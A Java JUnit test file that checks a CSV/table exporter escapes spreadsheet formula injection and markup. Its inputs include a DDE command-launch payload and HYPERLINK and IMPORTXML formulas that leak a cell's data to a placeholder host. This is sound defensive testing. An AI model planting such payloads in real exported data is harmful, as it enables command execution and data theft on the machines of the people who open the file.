package io.mammoth.connectors.kernel.files;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tech.tablesaw.api.StringColumn;
import tech.tablesaw.api.Table;

class FormulasTest {
  private final Path folder;

  FormulasTest(@TempDir Path folder) {
    this.folder = folder;
  }

  private String saved(String text, Saving... how) {
    Path file = folder.resolve("names.csv");
    TableFile.save(Sheet.of(Table.create("t", StringColumn.create("name", text))), file, how);
    return Text.of(file).substring("name\r\n".length());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uFF1D1+1",
        "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")",
      })
  void whatASpreadsheetWouldRunHasAnApostropheBeforeIt(String payload) {
    String cell = saved(payload).replaceFirst("^\"", "");
    assertTrue(cell.startsWith("'"), cell);
    assertEquals(
        payload, TableFile.load(folder.resolve("names.csv")).table().stringColumn("name").get(0));
  }

  @ParameterizedTest
  @ValueSource(strings = {"Salesforce", "'quoted'", "a=b", "5 - 3", "e@mail", "7", "#x"})
  void anyOtherTextStaysAsItIs(String text) {
    assertEquals(text, saved(text).strip());
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1+1", "-5%", "@x"})
  void whoeverSaysFormulasGetsThemAsTheyAre(String text) {
    assertEquals(text, saved(text, Saving.FORMULAS).strip());
  }

  @ParameterizedTest
  @ValueSource(strings = {"a;=1+1", "a\t=1+1", "a|=1+1"})
  void aValueIsQuotedWhereAnotherSeparatorWouldSplitIt(String text) {
    assertEquals("\"" + text + "\"", saved(text).strip());
  }

  @ParameterizedTest
  @ValueSource(strings = {"=head", "@head"})
  void aHeadIsDisarmedToo(String name) {
    Path file = folder.resolve("head.csv");
    TableFile.save(Sheet.of(Table.create("t", StringColumn.create(name, "x"))), file);
    assertTrue(Text.of(file).startsWith("'" + name));
    assertEquals(name, TableFile.load(file).table().columnNames().get(0));
  }

  @ParameterizedTest
  @ValueSource(strings = {"html", "md"})
  void markupInATextIsNone(String ending) {
    Path file = folder.resolve("page." + ending);
    Table table =
        Table.create("<b>t</b>", StringColumn.create("name", "<script>x</script>|[a](b)"));
    TableFile.save(Sheet.of(table), file);
    String page = Text.of(file);
    assertFalse(page.replace("\\<", "").contains("<script>"), page);
    assertFalse(page.replace("\\<", "").contains("<b>"), page);
  }
}
